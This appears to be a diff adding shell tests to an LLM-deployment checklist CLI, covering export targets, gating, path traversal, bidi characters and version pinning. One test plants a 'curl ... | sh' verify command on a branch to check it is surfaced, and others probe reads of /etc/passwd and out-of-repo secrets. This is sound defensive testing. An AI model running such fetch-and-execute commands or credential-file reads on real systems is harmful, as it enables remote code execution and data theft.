@@ -558,4 +558,504 @@ test_a_read_only_directory_is_refused_even_as_root() {
   assert_no_leftovers
 }
 
+# --- Trust at the edges (issue 14): outputs, gates, smuggled commands and reads ---
+
+# A project with one item done, in a git repository, for the export -o cases.
+export_setup() {
+  git_repo
+  lc_ok init -q
+  lc_ok check 1 -q
+}
+
+test_export_to_a_fifo_writes_into_it_and_keeps_it() {
+  export_setup
+  mkfifo pipe
+  cat pipe >received &
+  local reader=$!
+  lc export --format csv -o pipe
+  assert_status 0
+  wait "$reader"
+  [ -p pipe ] || fail "the FIFO was replaced"
+  assert_file_contains received "quality-bar"
+}
+
+test_export_to_a_character_device_writes_to_it_and_keeps_the_node() {
+  export_setup
+  # A device node of our own inside the temporary directory (the null device's numbers), never a
+  # real /dev node; making one needs root.
+  mknod sink c 1 3 2>/dev/null || exit 77
+  lc export -o sink
+  assert_status 0
+  [ -c sink ] || fail "the device node was replaced by a $(stat -c %F sink)"
+}
+
+test_export_to_dev_stdout_inside_a_pipe_reaches_the_pipe() {
+  export_setup
+  local piped
+  piped=$("$LLMCHECKLIST_BIN" export --format csv -o /dev/stdout | cat)
+  assert_contains "$piped" "quality-bar"
+  # A link of our own into /proc/self/fd, written through to the pipe behind it.
+  ln -s /proc/self/fd/1 to-stdout
+  piped=$("$LLMCHECKLIST_BIN" export --format csv -o to-stdout | cat)
+  assert_contains "$piped" "quality-bar"
+  [ -L to-stdout ] || fail "the link was replaced"
+}
+
+test_export_dash_is_standard_output() {
+  export_setup
+  lc export --format csv -o -
+  assert_status 0
+  assert_contains "$out" "quality-bar"
+  assert_no_file ./-
+}
+
+test_export_to_a_directory_is_an_io_error_naming_it() {
+  export_setup
+  mkdir reports
+  lc export -o reports
+  assert_status 4
+  assert_contains "$err" "cannot write reports: it is a directory"
+  [ -d reports ] || fail "the directory is gone"
+}
+
+test_export_through_a_symlink_writes_the_target_and_keeps_the_link() {
+  export_setup
+  mkdir docs
+  printf 'old\n' >docs/CHECKLIST.md
+  ln -s docs/CHECKLIST.md CHECKLIST.md
+  lc export -o CHECKLIST.md
+  assert_status 0
+  [ -L CHECKLIST.md ] || fail "the link was replaced"
+  assert_file_contains docs/CHECKLIST.md "# LLM Deployment Checklist"
+  ln -s missing.md dangling.md
+  lc export -o dangling.md
+  assert_status 4
+  assert_contains "$err" "dangling.md: it is a symbolic link to missing.md, which does not exist"
+}
+
+test_export_refuses_to_overwrite_the_state_file_and_its_checklist_files() {
+  git_repo
+  cp "$FIXTURES/small.toml" base.toml
+  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "base.toml"\n' >ours.toml
+  lc_ok init --checklist ours.toml -q
+  lc_ok check 1 -q
+  local file
+  for file in base.toml ours.toml .llmchecklist; do cp "$file" "$file.before"; done
+  lc export -o .llmchecklist
+  assert_status 2
+  assert_contains "$err" "names the state file in use"
+  lc export -o ./ours.toml
+  assert_status 2
+  assert_contains "$err" "the checklist definition the state follows"
+  ln -s base.toml alias.toml
+  lc export -o alias.toml
+  assert_status 2
+  assert_contains "$err" "a checklist file the definition extends"
+  for file in base.toml ours.toml .llmchecklist; do assert_same_bytes "$file.before" "$file"; done
+  lc --file .llmchecklist export -o "$PWD/.llmchecklist"
+  assert_status 2
+  lc_ok list
+}
+
+test_a_dangling_state_file_link_is_an_io_error_and_the_link_is_kept() {
+  git_repo
+  ln -s shared/.llmchecklist .llmchecklist
+  local args
+  for args in "list" "progress" "check 1" "uncheck 1"; do
+    # shellcheck disable=SC2086
+    lc $args
+    assert_no_crash
+    assert_status 4
+    assert_contains "$err" ".llmchecklist is a symbolic link to shared/.llmchecklist, which does not exist"
+    [ -L .llmchecklist ] || fail "$args replaced the link"
+  done
+  assert_no_file shared
+  # Found walking up from a subdirectory too, instead of starting afresh.
+  mkdir sub && cd sub
+  lc check 1
+  assert_status 4
+  cd ..
+  [ -L .llmchecklist ] || fail "the link was replaced"
+}
+
+test_progress_gate_with_no_gate_table_fails_saying_there_is_nothing_to_enforce() {
+  git_repo
+  lc_ok check --phase 1 -q
+  lc progress --gate
+  assert_status 1
+  assert_contains "$err" "gate failed: nothing to enforce: $PWD/.llmchecklist has no [gate] table"
+  lc progress --gate --min 0
+  assert_status 1
+  # With a table, it is applied.
+  printf '\n[gate]\nmin = 10\n' >>.llmchecklist
+  lc progress --gate
+  assert_status 0
+}
+
+test_progress_gate_with_no_state_file_fails_saying_where_it_looked() {
+  git_repo
+  mkdir sub && cd sub
+  lc progress --gate
+  assert_status 1
+  assert_contains "$err" "gate failed: nothing to enforce"
+  assert_contains "$err" "no .llmchecklist in $PWD or its parents"
+  lc --file mistyped.llmchecklist progress --gate
+  assert_status 4
+  assert_contains "$err" "mistyped.llmchecklist does not exist"
+}
+
+test_a_bad_gate_phase_is_a_data_error_at_its_key() {
+  git_repo
+  lc_ok check 1 -q
+  printf '\n[gate]\nmin = 0\n[gate.phases]\nevaluation = 10\nno-such-phase = 50\n' >>.llmchecklist
+  cp .llmchecklist before
+  lc progress --gate
+  assert_status 3
+  local line
+  line=$(grep -n '^no-such-phase' .llmchecklist | cut -d: -f1)
+  assert_located_error "$PWD/.llmchecklist" "$line:1" "[gate.phases] names 'no-such-phase', which is not a phase"
+  assert_same_bytes before .llmchecklist
+  # From the command line it is the user's typo, with suggestions.
+  lc progress --min-phase evalution=10
+  assert_status 2
+  assert_contains "$err" "no phase 'evalution'"
+}
+
+# A file outside the repository whose first line must never reach any output.
+secret_outside() {
+  mkdir -p outside
+  printf 'SECRET-TOKEN-12345 = "x"\n' >outside/secret.toml
+  mkdir repo && cd repo
+  git_repo
+}
+
+assert_secret_not_shown() {
+  assert_not_contains "$out$err" "SECRET-TOKEN" "output"
+}
+
+test_an_absolute_checklist_reference_is_refused_without_opening_the_file() {
+  secret_outside
+  printf 'format = 1\nchecklist = "%s"\n' "$(cd ../outside && pwd)/secret.toml" >.llmchecklist
+  cp .llmchecklist before
+  local args
+  for args in "list" "progress" "check 1" "show 1" "export"; do
+    # shellcheck disable=SC2086
+    lc $args
+    assert_status 3
+    assert_located_error "$PWD/.llmchecklist" "2:13" "is an absolute path"
+    assert_secret_not_shown
+  done
+  assert_same_bytes before .llmchecklist
+  # Not opened: a file nobody may read gives the reference's error, not "permission denied".
+  chmod 000 ../outside/secret.toml
+  lc list
+  assert_status 3
+  assert_not_contains "$err" "ermission"
+}
+
+test_a_checklist_reference_climbing_out_of_the_repository_is_refused() {
+  secret_outside
+  printf 'format = 1\nchecklist = "../outside/secret.toml"\n' >.llmchecklist
+  lc progress
+  assert_status 3
+  assert_located_error "$PWD/.llmchecklist" "2:13" "leads outside the repository"
+  assert_secret_not_shown
+  # Through a symbolic link inside the repository, too.
+  ln -s ../outside lists
+  printf 'format = 1\nchecklist = "lists/secret.toml"\n' >.llmchecklist
+  lc progress
+  assert_status 3
+  assert_contains "$err" "through a symbolic link"
+  assert_secret_not_shown
+  # A `..` that stays inside is fine.
+  mkdir -p a/b && cp "$FIXTURES/small.toml" a/small.toml
+  printf 'format = 1\nchecklist = "a/b/../small.toml"\n' >.llmchecklist
+  lc_ok progress
+}
+
+test_extends_climbing_out_of_the_repository_is_refused_at_the_extends() {
+  secret_outside
+  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "../outside/secret.toml"\n' >ours.toml
+  printf 'format = 1\nchecklist = "ours.toml"\n' >.llmchecklist
+  lc list
+  assert_status 3
+  assert_located_error "$PWD/ours.toml" "4:11" "leads outside the repository"
+  assert_secret_not_shown
+  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "/etc/passwd"\n' >ours.toml
+  lc list
+  assert_status 3
+  assert_contains "$err" "is an absolute path"
+  assert_not_contains "$err" "root:"
+  lc lint ours.toml
+  assert_status 3
+  assert_not_contains "$err" "root:"
+}
+
+test_an_extends_cycle_is_reported_once_naming_its_files_in_order() {
+  git_repo
+  printf '[checklist]\nid = "a"\ntitle = "A"\nextends = "b.toml"\n' >a.toml
+  printf '[checklist]\nid = "b"\ntitle = "B"\nextends = "c.toml"\n' >b.toml
+  printf '[checklist]\nid = "c"\ntitle = "C"\nextends = "a.toml"\n' >c.toml
+  printf 'format = 1\nchecklist = "a.toml"\n' >.llmchecklist
+  lc list
+  assert_status 3
+  assert_contains "$err" "'extends' makes a cycle: a.toml extends b.toml, which extends c.toml, which extends a.toml"
+  assert_eq 1 "$(printf '%s\n' "$err" | grep -c 'error:')" "errors reported"
+  assert_not_contains "$err" "cannot extend"
+}
+
+test_an_override_of_an_unknown_item_names_the_nearest_ids() {
+  git_repo
+  printf '[checklist]\nid = "ours"\ntitle = "Ours"\nextends = "builtin:llm-deployment"\n\n[overrides.red-teeming]\nseverity = "recommended"\n' >ours.toml
+  printf 'format = 1\nchecklist = "ours.toml"\n' >.llmchecklist
+  lc list
+  assert_status 3
+  assert_located_error "$PWD/ours.toml" "6:12" "the base checklist has no item 'red-teeming'; did you mean red-teaming?"
+  assert_not_contains "$err" "expected a table"
+}
+
+test_a_verify_command_added_on_a_branch_is_shown_by_diff_and_progress_since() {
+  repo_with_state
+  git checkout -qb sneaky
+  lc_ok verify 14 --set 'curl -s https://example.invalid/x | sh' -q
+  git commit -qam "Tidy the checklist"
+  lc diff main sneaky
+  assert_status 0
+  assert_not_contains "$out" "no change to the checklist"
+  assert_contains "$out" "14 red-teaming: command added: curl -s https://example.invalid/x | sh"
+  lc diff main sneaky --json
+  assert_eq "added 14 curl -s https://example.invalid/x | sh" \
+    "$(json '.verify_changes[] | "\(.change) \(.number) \(.after)"')"
+  lc progress --since main
+  assert_status 0
+  assert_contains "$err" "verify command added since main: 14 red-teaming: curl -s https://example.invalid/x | sh"
+  # Changed and removed are named too.
+  lc_ok verify 14 --set 'true' -q
+  lc diff sneaky
+  assert_contains "$(unwrapped "$out")" "command changed: curl -s https://example.invalid/x | sh -> true"
+  lc_ok verify 14 --unset -q
+  lc diff sneaky
+  assert_contains "$(unwrapped "$out")" "command removed: curl -s https://example.invalid/x | sh"
+}
+
+test_verify_dry_run_lists_each_command_and_runs_none() {
+  git_repo
+  lc_ok verify 3 --set 'touch ran-3' -q
+  lc_ok verify 5 --set 'touch ran-5' -q
+  lc verify --dry-run
+  assert_status 0
+  assert_contains "$out" "3 cost-at-scale (the state file's command): touch ran-3"
+  assert_contains "$out" "5 structured-output (the state file's command): touch ran-5"
+  assert_no_file ran-3
+  assert_no_file ran-5
+  lc verify 5 --dry-run
+  assert_not_contains "$out" "ran-3"
+}
+
+test_list_marks_items_that_carry_a_verify_command() {
+  git_repo
+  lc_ok verify 3 --set 'true' -q
+  lc list
+  assert_match '^  \[ \]  3  cost-at-scale .* \[verify\]$' "$out"
+  assert_eq 1 "$(printf '%s\n' "$out" | grep -c '\[verify\]')" "items marked"
+}
+
+# Text that reads differently from what it is: a right-to-left override and a zero-width space.
+BIDI=$(printf 'ok \342\200\256si siht\342\200\254 and\342\200\213hidden')
+
+test_bidirectional_and_zero_width_characters_are_shown_not_obeyed() {
+  git_repo
+  lc_ok check 3 --note "$BIDI" -q
+  local args
+  for args in "show 3" "list" "export"; do
+    # shellcheck disable=SC2086
+    lc $args
+    assert_not_contains "$out" "$(printf '\342\200\256')" "$args"
+    assert_not_contains "$out" "$(printf '\342\200\213')" "$args"
+  done
+  lc show 3
+  assert_contains "$out" "ok <U+202E>si siht<U+202C> and<U+200B>hidden"
+  lc export --format markdown
+  assert_contains "$out" 'ok \<U+202E\>si siht\<U+202C\> and\<U+200B\>hidden'
+  lc export --format html
+  assert_contains "$out" "ok &lt;U+202E&gt;si siht"
+  # The data itself is kept as written.
+  lc show 3 --json
+  assert_eq "$BIDI" "$(json .note)"
+}
+
+test_bidirectional_characters_in_a_title_and_in_verify_output_are_shown() {
+  git_repo
+  cp "$FIXTURES/small.toml" ours.toml
+  sed -i "0,/^title = \"Do the alpha thing\"/s//title = \"Do the $(printf '\342\200\256')alpha thing\"/" ours.toml
+  grep -q "$(printf '\342\200\256')" ours.toml || fail "small.toml has no alpha title to change"
+  lc_ok init --checklist ours.toml -q
+  lc list
+  assert_contains "$out" "Do the <U+202E>alpha thing"
+  lc_ok verify 1 --set "printf 'x\\342\\200\\256y'; exit 1" -q
+  lc verify
+  assert_contains "$out" "x<U+202E>y"
+}
+
+# A custom checklist at version 1 pinned by the state, then moved to version 2 with a new item.
+custom_checklist_moved_on() {
+  git_repo
+  cp "$FIXTURES/small.toml" ours.toml
+  sed -i 's/^version = .*/version = "1"/' ours.toml
+  grep -q '^version = "1"$' ours.toml || fail "small.toml has no version line"
+  lc_ok init --checklist ours.toml -q
+  lc_ok check 1 -q
+  sed -i 's/^version = .*/version = "2"/' ours.toml
+  printf '\n[[phases.items]]\nid = "zeta"\ntitle = "Do the new zeta thing"\n' >>ours.toml
+  cp .llmchecklist before
+}
+
+test_writers_refuse_a_state_pinned_to_an_older_version_of_its_checklist_file() {
+  custom_checklist_moved_on
+  local args
+  for args in "check 2" "uncheck 1" "check zeta" "verify 1 --set true" "prune"; do
+    # shellcheck disable=SC2086
+    lc $args
+    assert_status 3
+    assert_contains "$err" "follows version 1 of ours.toml, which is now version 2; nothing was written"
+    assert_contains "$err" "llmchecklist upgrade"
+    assert_same_bytes before .llmchecklist
+  done
+  # Reading still works, with the notice.
+  lc list
+  assert_status 0
+  assert_contains "$err" "ours.toml is now version 2"
+  # The reviewable step still sees the change, and then writing works again.
+  lc upgrade --dry-run
+  assert_contains "$out" "zeta"
+  lc_ok upgrade -q
+  lc_ok check zeta -q
+}
+
+test_a_state_file_with_conflict_markers_says_so_and_how_to_avoid_them() {
+  git_repo
+  lc_ok check 1 -q
+  printf '<<<<<<< HEAD\n[items.extra]\nstatus = "done"\n=======\n[items.extra]\nstatus = "todo"\n>>>>>>> theirs\n' >>.llmchecklist
+  local line
+  line=$(grep -n '^<<<<<<<' .llmchecklist | cut -d: -f1)
+  cp .llmchecklist before
+  lc progress
+  assert_status 3
+  assert_located_error "$PWD/.llmchecklist" "$line:1" "unresolved merge conflict: git's conflict markers start at line $line"
+  assert_contains "$err" "llmchecklist init --git"
+  assert_not_contains "$err" "saw '<'"
+  lc check 2
+  assert_status 3
+  assert_same_bytes before .llmchecklist
+}
+
+test_syntax_errors_are_said_in_our_words() {
+  git_repo
+  printf 'format = 1\nchecklist = "builtin:llm-deployment"\n\n[items.quality-bar]\nstatus = "done\nnote = "x"\n' >.llmchecklist
+  lc list
+  assert_status 3
+  assert_contains "$err" "error: a string is not closed on its line: its closing quote is missing"
+  assert_not_contains "$err" "Error while parsing"
+  assert_not_contains "$err" "explicitly prohibited"
+  printf 'format = 1\nformat = 1\n' >.llmchecklist
+  lc list
+  assert_contains "$err" "error: 'format' is defined twice: keep one of the two"
+  # Every message starts in lower case after "error:".
+  assert_not_match 'error: [A-Z]' "$err"
+}
+
+test_option_values_are_checked_in_words_that_say_what_they_take() {
+  git_repo
+  lc progress --min abc
+  assert_status 2
+  assert_contains "$err" "--min: expected a percentage from 0 to 100, got \"abc\""
+  lc progress --min 80%
+  assert_status 2
+  assert_contains "$err" "--min: expected a percentage from 0 to 100 without the % sign, got \"80%\""
+  assert_not_contains "$err" "not in range"
+  lc progress --min-phase evaluation=lots
+  assert_status 2
+  assert_contains "$err" "--min-phase takes PHASE=PCT"
+  lc export --format badge --red-below 150
+  assert_status 2
+  assert_contains "$err" "--red-below: expected a percentage from 0 to 100"
+  lc verify --timeout never
+  assert_status 2
+  assert_contains "$err" "--timeout: expected a number of seconds"
+}
+
+test_verify_reports_the_real_timeout_and_an_unset_with_nothing_to_remove() {
+  git_repo
+  lc_ok verify 3 --set 'sleep 30' -q
+  lc verify --timeout 0.5
+  assert_status 1
+  assert_contains "$out" "killed at the 0.5 s limit"
+  lc verify 4 --unset
+  assert_status 0
+  assert_eq "4 context-length has no verify command; nothing removed" "$out"
+}
+
+test_an_n_a_decision_that_would_expire_in_the_past_is_refused() {
+  git_repo
+  lc check 3 --na "not used here" --until 2020-01-01
+  assert_status 2
+  assert_contains "$err" "--until 2020-01-01 is already past (today is 2026-11-28)"
+  assert_no_file .llmchecklist
+  lc_ok check 3 --na "not used here" --until 2026-11-28 -q
+}
+
+test_item_ids_match_without_regard_to_case() {
+  git_repo
+  lc show QUALITY-BAR --json
+  assert_status 0
+  assert_eq "quality-bar" "$(json .id)"
+  lc show QUALTY-BAR
+  assert_status 2
+  assert_contains "$err" "no item 'QUALTY-BAR'; did you mean:"
+  assert_contains "$err" "1 quality-bar"
+}
+
+test_prune_removes_orphaned_entries_and_lists_them() {
+  git_repo
+  lc_ok check 1 -q
+  printf '\n[items.qualty-bar]\nstatus = "done"\nnote = "a typo in a hand edit"\n' >>.llmchecklist
+  cp .llmchecklist before
+  lc prune --dry-run
+  assert_status 0
+  assert_contains "$out" "would remove 1 orphaned entry:"
+  assert_contains "$out" "qualty-bar (done, note \"a typo in a hand edit\")"
+  assert_same_bytes before .llmchecklist
+  lc prune
+  assert_status 0
+  assert_contains "$out" "removed 1 orphaned entry:"
+  assert_not_contains "$(cat .llmchecklist)" "qualty-bar"
+  assert_contains "$(cat .llmchecklist)" "[items.quality-bar]"
+  lc prune
+  assert_contains "$out" "no orphaned entries"
+}
+
+test_init_keeps_lock_and_temporary_files_out_of_git_status() {
+  git_repo
+  lc init
+  assert_status 0
+  assert_contains "$out" "added .llmchecklist.lock and .llmchecklist.tmp-* to"
+  # What a killed writer leaves behind.
+  : >.llmchecklist.lock
+  : >.llmchecklist.tmp-AbC123
+  git add .gitignore .llmchecklist
+  assert_eq "A  .gitignore
+A  .llmchecklist" "$(git status --porcelain)"
+  # Running it again adds nothing twice.
+  lc_ok init --force -q
+  assert_eq 1 "$(grep -c '^.llmchecklist.lock$' .gitignore)" "lock lines"
+}
+
+test_progress_for_one_phase_prints_its_bar_once() {
+  git_repo
+  lc progress --phase 1
+  assert_status 0
+  assert_eq 1 "$(printf '%s\n' "$out" | grep -c '%')" "bars"
+  assert_not_contains "$out" "Selected"
+}
+
 run_tests
